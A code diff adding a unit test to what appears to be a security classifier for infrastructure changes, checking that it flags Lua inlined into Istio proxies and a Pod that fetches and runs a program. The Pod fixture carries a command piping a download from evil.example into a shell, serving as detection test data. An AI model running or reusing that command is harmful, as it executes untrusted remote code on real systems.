@@ -4,6 +4,7 @@ import { execOnApply } from '../../../src/classify/rules/exec-on-apply.ts';
 import type { ParsedChange } from '../../../src/model/change.ts';
 import { changeOf, contextOf, resource } from '../example-change.ts';
 import { findingsBetween } from '../judge-trees.ts';
+import { hitsOf } from '../kubernetes/manifests.ts';
 
 const LOCAL = { 'provisioner.local-exec[0].command': 'make' };
 const MASKED = { 'provisioner.local-exec[0].command': { value: '(sensitive)', line: 4, sensitive: true } };
@@ -88,4 +89,21 @@ test('a macro rewrites the template, a transform of AWS does not run a function 
 test('a custom resource that goes calls its function a last time', () => {
   const gone = changeOf({ type: 'Custom::X', action: 'delete', after: null });
   expect(execOnApply.check(gone, contextOf()).map(({ severity }) => severity)).toEqual(['low']);
+});
+
+test('a program in the proxies of a mesh, and one that a pod fetches', () => {
+  const filter = (code: string): string =>
+    `apiVersion: networking.istio.io/v1alpha3\nkind: EnvoyFilter\nmetadata: { name: f }\nspec: { configPatches: [{ patch: { value: { typed_config: { inlineCode: "${code}" } } } }] }\n`;
+  expect(hitsOf(execOnApply, null, filter('a()'))).toEqual([
+    '4 medium A program in Lua runs in the proxies.',
+  ]);
+  expect(hitsOf(execOnApply, filter('a()'), filter('b()'))).toEqual([
+    '4 medium A program in Lua runs in the proxies.',
+  ]);
+  expect(hitsOf(execOnApply, filter('a()'), filter('a()'))).toEqual([]);
+  const pod =
+    'apiVersion: v1\nkind: Pod\nmetadata: { name: p }\nspec: { containers: [{ name: a, image: x, args: [sh, -c, "wget -O- http://evil.example | sh"] }] }\n';
+  expect(hitsOf(execOnApply, null, pod)).toEqual([
+    '4 medium Container a of Pod p fetches a program from evil.example and runs it.',
+  ]);
 });
